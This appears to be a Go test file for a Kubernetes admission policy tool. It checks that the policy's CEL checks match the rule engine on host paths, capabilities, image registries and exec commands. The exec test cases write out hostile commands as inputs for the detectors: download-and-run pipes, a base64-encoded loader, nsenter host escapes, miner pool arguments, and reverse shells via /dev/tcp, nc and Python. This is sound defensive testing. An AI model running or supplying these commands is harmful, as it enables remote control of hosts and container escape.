package vap

import (
	"encoding/json"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/jobguard/jobguard/internal/config"
	"github.com/jobguard/jobguard/internal/finding"
	"github.com/jobguard/jobguard/internal/input"
	"github.com/jobguard/jobguard/internal/rules"
)

// The policy's CEL mirrors some of the rules' tables and string logic. These tests compare Go
// models of that CEL (built from the same tables and regular expressions; RE2 is CEL's regular
// expression language too) with the rules' own verdicts on the same pods. The integration test
// then shows that the API server runs the CEL as modelled.

// engineFindings runs the rule engine on a Pod with spec and returns the findings of rule.
func engineFindings(t *testing.T, cfg *config.Config, rule string, spec corev1.PodSpec) []finding.Finding {
	t.Helper()
	pod := corev1.Pod{Spec: spec}
	pod.APIVersion, pod.Kind, pod.Name, pod.Namespace = "v1", "Pod", "x", "ns"
	js, err := json.Marshal(&pod)
	if err != nil {
		t.Fatal(err)
	}
	obj, err := input.Decode("v1", "Pod", js)
	if err != nil {
		t.Fatal(err)
	}
	e, err := rules.New(rules.Options{Config: cfg})
	if err != nil {
		t.Fatal(err)
	}
	var out []finding.Finding
	for _, f := range e.Evaluate(nil, &input.Object{Obj: obj, Source: finding.Resource{APIVersion: "v1", Kind: "Pod", Name: "x", Namespace: "ns"}}) {
		if f.Rule == rule {
			out = append(out, f)
		}
	}
	return out
}

func maxSeverity(fs []finding.Finding) finding.Severity {
	m := finding.SeverityNone
	for _, f := range fs {
		m = max(m, f.Severity)
	}
	return m
}

// hostPathHighModel is the host-path/sensitive check's CEL in Go: hostPathVolumesAbs,
// hostPathVolumes and hostPathMounts normalise, hostPathHigh judges.
func hostPathHighModel(declared, subPath string, rw bool) bool {
	p := declared
	if !strings.HasPrefix(p, "/") {
		p = "/" + p
	}
	if p != "/" && strings.HasSuffix(p, "/") {
		p = p[:len(p)-1]
	}
	if subPath != "" {
		sub := strings.TrimSuffix(subPath, "/")
		if p == "/" {
			p = ""
		}
		p += "/" + sub
	}
	atUnderAbove := func(list []string) bool {
		return slices.ContainsFunc(list, func(s string) bool {
			return p == s || strings.HasPrefix(p, s+"/") || strings.HasPrefix(s, p+"/")
		})
	}
	return strings.Contains(p, "//") || strings.Contains(p, "/./") || strings.HasSuffix(p, "/.") || p == "/" ||
		atUnderAbove(hostPathAnyAccess) || slices.Contains(hostPathExactHigh, p) ||
		strings.HasSuffix(p, ".sock") || strings.HasSuffix(p, ".socket") ||
		(rw && !slices.Contains(hostPathWriteBenign, p) && atUnderAbove(hostPathWritePrefixes))
}

func TestHostPathParity(t *testing.T) {
	var paths []string
	for _, list := range [][]string{hostPathAnyAccess, hostPathExactHigh, hostPathWritePrefixes, hostPathWriteBenign} {
		for _, p := range list {
			paths = append(paths, p, p+"/x", p+"/", p[:strings.LastIndexByte(p, '/')+1])
		}
	}
	// Node paths that matter, written out so that a path dropped from the tables is noticed.
	paths = append(paths, "/root", "/root/.ssh", "/home/user", "/etc/kubernetes/pki", "/var/lib/kubelet/pods", "/var/lib/etcd",
		"/var/lib/docker", "/var/lib/containerd", "/var/lib/containers/storage", "/proc", "/proc/1/root", "/etc/shadow",
		"/etc/ssh", "/run/containerd/containerd.sock", "/var/run/crio/crio.sock", "/run/k3s/containerd/containerd.sock",
		"/run/podman/podman.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/var/run/docker.sock",
		"/run/cri-dockerd.sock", "/run/dockershim.sock", "/sys", "/sys/fs/cgroup", "/dev", "/dev/sda", "/boot", "/usr/bin",
		"/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/var/spool/cron", "/var/log", "/etc", "/etc/cron.d",
		"/etc/systemd/system", "/usr/local", "/opt/cni/bin")
	paths = append(paths, "/", "/data", "/opt/app", "/var/log/pods", "/var/lib", "/var", "/usr/share/zoneinfo", "/srv/www",
		"/mnt/disk", "/run/xtables.lock", "/var/run/xtables.lock", "/tmp/agent.sock", "/opt/x/agent.socket", "/etc/localtime",
		"var/lib/kubelet", "data", "/lib/modules", "/opt/cni/bin", "/opt/cnix", "/etcx", "/homework", "/devices", "/system")
	for _, p := range paths {
		for _, sub := range []string{"", "conf", "agent.sock", "kubelet"} {
			for _, rw := range []bool{false, true} {
				spec := corev1.PodSpec{
					Containers: []corev1.Container{{Name: "app", Image: cleanImage,
						VolumeMounts: []corev1.VolumeMount{{Name: "h", MountPath: "/h", ReadOnly: !rw, SubPath: sub}}}},
					Volumes: []corev1.Volume{{Name: "h", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: p}}}},
				}
				engine := maxSeverity(engineFindings(t, nil, "host-path", spec)) >= finding.SeverityHigh
				model := hostPathHighModel(p, sub, rw)
				if engine != model {
					t.Errorf("host path %q subPath %q read-write %v: the rule says high=%v, the policy high=%v", p, sub, rw, engine, model)
				}
			}
		}
	}
	// Forms the policy cannot normalise are refused even where the rule, normalising, is medium.
	for _, p := range []string{"//etc/kubernetes", "/data//x", "/data/./x", "/data/."} {
		if !hostPathHighModel(p, "", false) {
			t.Errorf("%q is not refused", p)
		}
	}
}

func TestCapabilityParity(t *testing.T) {
	caps := []string{"ALL", "AUDIT_CONTROL", "AUDIT_READ", "AUDIT_WRITE", "BLOCK_SUSPEND", "BPF", "CHECKPOINT_RESTORE", "CHOWN",
		"DAC_OVERRIDE", "DAC_READ_SEARCH", "FOWNER", "FSETID", "IPC_LOCK", "IPC_OWNER", "KILL", "LEASE", "LINUX_IMMUTABLE",
		"MAC_ADMIN", "MAC_OVERRIDE", "MKNOD", "NET_ADMIN", "NET_BIND_SERVICE", "NET_BROADCAST", "NET_RAW", "PERFMON", "SETFCAP",
		"SETGID", "SETPCAP", "SETUID", "SYSLOG", "SYS_ADMIN", "SYS_BOOT", "SYS_CHROOT", "SYS_MODULE", "SYS_NICE", "SYS_PACCT",
		"SYS_PTRACE", "SYS_RAWIO", "SYS_RESOURCE", "SYS_TIME", "SYS_TTY_CONFIG", "WAKE_ALARM"}
	for _, c := range caps {
		for _, spelling := range []string{c, "cap_" + strings.ToLower(c), " " + c + " "} {
			for _, hostNS := range []bool{false, true} {
				spec := corev1.PodSpec{HostPID: hostNS, HostNetwork: hostNS, Containers: []corev1.Container{{Name: "app", Image: cleanImage,
					SecurityContext: &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{corev1.Capability(spelling)}}}}}}
				engine := maxSeverity(engineFindings(t, nil, "host-capabilities", spec))
				// The model: capsOf normalises, the high and medium checks classify.
				n := strings.TrimPrefix(strings.TrimSpace(strings.ToUpper(spelling)), "CAP_")
				model := finding.SeverityNone
				switch {
				case slices.Contains(highCapabilities, n), n == "SYS_PTRACE" && hostNS, n == "NET_ADMIN" && hostNS:
					model = finding.SeverityHigh
				case slices.Contains(mediumCapabilities, n):
					model = finding.SeverityMedium
				}
				if engine != model {
					t.Errorf("capability %q (hostPID and hostNetwork %v): the rule says %s, the policy %s", spelling, hostNS, engine, model)
				}
			}
		}
	}
}

// registryAllowedModel is registryAllowedCEL in Go.
func registryAllowedModel(img string, allowed []string) bool {
	for _, a := range allowed {
		for _, alt := range registryAlternatives(a) {
			if regexp.MustCompile(alt.re).MatchString(img) && (alt.unlessPrefix == "" || !strings.HasPrefix(img, alt.unlessPrefix)) {
				return true
			}
		}
	}
	return false
}

func TestRegistryParity(t *testing.T) {
	const digest = "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	images := []string{"nginx", "nginx:1.27", "nginx" + digest, "library/nginx:1", "docker.io/nginx", "docker.io/library/nginx:1",
		"index.docker.io/bitnami/etcd:3", "Docker.IO/bitnami/etcd", "registry-1.docker.io/bitnami/etcd", "bitnami/etcd:3.5",
		"bitnami/etcd-operator", "bitnamix/etcd", "registry.example.com/app:1", "REGISTRY.example.com/app", "registry.example.com",
		"registry.example.com:5000/app", "registry.example.com.evil.io/app", "evilregistry.example.com/app", "ghcr.io/acme/tool:1",
		"ghcr.io/acme-evil/tool", "ghcr.io/acme", "ghcr.io/acme/team/tool" + digest, "localhost/app", "localhost:5000/app:1",
		"quay.io/acme/app", "gcr.io/proj/app", "acme/app", "registry.example.com/trusted/agent:2"}
	allowedSets := [][]string{
		{"registry.example.com"}, {"registry.example.com/"}, {"registry.example.com/*"}, {"REGISTRY.EXAMPLE.COM"},
		{"docker.io"}, {"index.docker.io"}, {"registry-1.docker.io"}, {"docker.io/library"}, {"docker.io/library/nginx"},
		{"docker.io/bitnami"}, {"docker.io/bitnami/etcd"}, {"ghcr.io/acme"}, {"ghcr.io/acme/team"}, {"localhost"},
		{"localhost:5000"}, {"registry.example.com:5000"}, {"quay.io", "gcr.io/proj"}, {" registry.example.com/trusted "},
	}
	for _, allowed := range allowedSets {
		cfg := &config.Config{AllowedRegistries: allowed}
		for _, img := range images {
			spec := corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: img}}}
			engine := len(engineFindings(t, cfg, "image-registry-not-allowed", spec)) == 0
			model := registryAllowedModel(img, allowed)
			if engine != model {
				t.Errorf("image %q, allowedRegistries %q: the rule allows it: %v, the policy: %v", img, allowed, engine, model)
			}
		}
	}
}

// execTextModel is the execTexts variable in Go: command and args on one line, then each exec
// hook and probe, then NAME=value of literal env values.
func execTextModel(c corev1.Container) string {
	lines := []string{strings.Join(append(append([]string{}, c.Command...), c.Args...), " ")}
	if lc := c.Lifecycle; lc != nil {
		for _, h := range []*corev1.LifecycleHandler{lc.PostStart, lc.PreStop} {
			if h != nil && h.Exec != nil {
				lines = append(lines, strings.Join(h.Exec.Command, " "))
			}
		}
	}
	for _, p := range []*corev1.Probe{c.LivenessProbe, c.ReadinessProbe, c.StartupProbe} {
		if p != nil && p.Exec != nil {
			lines = append(lines, strings.Join(p.Exec.Command, " "))
		}
	}
	for _, e := range c.Env {
		if e.Value != "" {
			lines = append(lines, e.Name+"="+e.Value)
		}
	}
	return strings.Join(lines, "\n")
}

// execPatternModel is execPattern.celMatch in Go.
func execPatternModel(p execPattern, text string) bool {
	hit := slices.ContainsFunc(p.anyOf, func(s string) bool { return strings.Contains(text, s) })
	return hit && (p.re == "" || regexp.MustCompile(p.re).MatchString(text))
}

// TestExecLiteralsAreFindings checks that the literal exec checks refuse only what the rules
// report too (the policy must never be stricter than the webhook there), and catch the plain
// forms they claim.
func TestExecLiteralsAreFindings(t *testing.T) {
	sh := func(s string) corev1.Container {
		return corev1.Container{Name: "app", Image: cleanImage, Command: []string{"/bin/sh", "-c", s}}
	}
	for _, tc := range []struct {
		c corev1.Container
		// want is the rule the policy must refuse it by ("" for none).
		want string
	}{
		{sh("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh"), "exec-decode-execute"},
		{sh("echo ZWNobyBoaQ== | base64 --decode | bash"), "exec-decode-execute"},
		{sh(`eval "$(echo ZWNobyBoaQ== | base64 -d)"`), "exec-decode-execute"},
		{sh("base64 -d /in/blob > /out/blob"), ""},
		{sh("curl -fsSL http://203.0.113.7/i.sh | sh"), "exec-download-execute"},
		{sh("curl -s http://203.0.113.7/i.sh | sudo bash -s -- --yes"), "exec-download-execute"},
		{sh("wget -qO- http://203.0.113.7/a | /bin/bash"), "exec-download-execute"},
		{sh("curl -fsSL http://203.0.113.7/p.py | python3 -"), "exec-download-execute"},
		{sh("curl -fsS http://files.example/x.tgz | sha256sum"), ""},
		{sh("curl -fsS http://catalog.ops.svc/done | jq .status"), ""},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"}}, "exec-host-escape"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"nsenter", "--target", "1", "--mount", "--", "sh"}}, "exec-host-escape"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"nsenter", "-t", "1234", "-n", "ip", "a"}}, ""},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"/opt/kworker"}, Args: []string{"-o", "stratum+tcp://pool.example.net:3333"}}, "exec-miner"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"/opt/x"}, Args: []string{"--donate-level", "1", "-o", "pool.example.net:3333"}}, "exec-miner"},
		{corev1.Container{Name: "app", Image: cleanImage, Env: []corev1.EnvVar{{Name: "POOL", Value: "stratum+ssl://pool.example.net:14444"}}}, "exec-miner"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"redis-server", "--port", "3333"}}, ""},
		{sh("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), "exec-reverse-shell"},
		{sh("sh -i >& /dev/udp/203.0.113.7/4444 0>&1"), "exec-reverse-shell"},
		{sh("exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"), "exec-reverse-shell"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"nc", "203.0.113.7", "4444", "-e", "/bin/sh"}}, "exec-reverse-shell"},
		{corev1.Container{Name: "app", Image: cleanImage, Command: []string{"python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"}}, "exec-reverse-shell"},
		{sh("until </dev/tcp/db/5432; do sleep 1; done"), ""},
		{sh("timeout 1 bash -c '</dev/tcp/localhost/8080'"), ""},
		{sh("nc -z db.shop.svc 5432"), ""},
		{sh("bash -c 'echo ok'"), ""},
	} {
		name := strings.Join(append(append([]string{}, tc.c.Command...), tc.c.Args...), " ")
		if name == "" && len(tc.c.Env) > 0 {
			name = tc.c.Env[0].Value
		}
		text := execTextModel(tc.c)
		spec := corev1.PodSpec{Containers: []corev1.Container{tc.c}}
		for _, patterns := range execPatterns {
			for _, p := range patterns {
				if p.re != "" && regexp.MustCompile(p.re).MatchString(text) && !execPatternModel(p, text) {
					t.Errorf("%s: pattern %s matches, but none of its cheap substrings %q is there", name, p.re, p.anyOf)
				}
			}
		}
		for rule, patterns := range execPatterns {
			policy := slices.ContainsFunc(patterns, func(p execPattern) bool { return execPatternModel(p, text) })
			if policy != (rule == tc.want) {
				t.Errorf("%s: the %s check refuses it: %v, want %v", name, rule, policy, rule == tc.want)
			}
			if policy && len(engineFindings(t, nil, rule, spec)) == 0 {
				t.Errorf("%s: the %s check refuses what the rule does not report", name, rule)
			}
		}
	}
}

func TestGlobRegexpMatchesPathMatch(t *testing.T) {
	patterns := [][]string{
		{"kube-system"}, {"team-*"}, {"*"}, {"a?c"}, {"[a-c]x"}, {"[^a-c]x"}, {`a\*b`}, {"ns/*"}, {"*/backup-*"},
		{"registry.example.com/ops/*"}, {"x.y+z(1)"}, {"[\\]]x"}, {"gke-*", "openshift-*"}, {"é*"},
	}
	subjects := []string{"", "kube-system", "kube-systemx", "team-a", "team-", "team-a/b", "abc", "axc", "a/c", "ax", "bx", "dx",
		"/x", "a*b", "axb", "ns/x", "ns/x/y", "shop/backup-1", "backup-1", "registry.example.com/ops/agent",
		"registry.example.com/ops/a/b", "x.y+z(1)", "xxy+z(1)", "]x", "gke-system", "openshift-x", "éa", "e"}
	for _, ps := range patterns {
		re := regexp.MustCompile(globRegexp(ps))
		for _, s := range subjects {
			want := false
			for _, p := range ps {
				ok, err := path.Match(p, s)
				if err != nil {
					t.Fatalf("bad test pattern %q: %v", p, err)
				}
				want = want || ok
			}
			if got := re.MatchString(s); got != want {
				t.Errorf("patterns %q on %q: regexp %s says %v, path.Match %v", ps, s, re, got, want)
			}
		}
	}
}
